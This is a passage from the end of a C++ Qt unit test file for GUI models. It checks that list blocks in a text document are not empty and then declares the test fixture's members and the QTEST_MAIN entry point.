        for (QTextBlock block = document.begin(); block.isValid(); block = block.next())
            QVERIFY2(!block.textList() || !block.text().isEmpty(), qPrintable(block.previous().text()));
    }

private:
    QTemporaryDir dir_;
    QString casePath_;
    std::shared_ptr<CaseFile> caseFile_;
};

QTEST_MAIN(TestGuiModels)
#include "test_gui_models.moc"
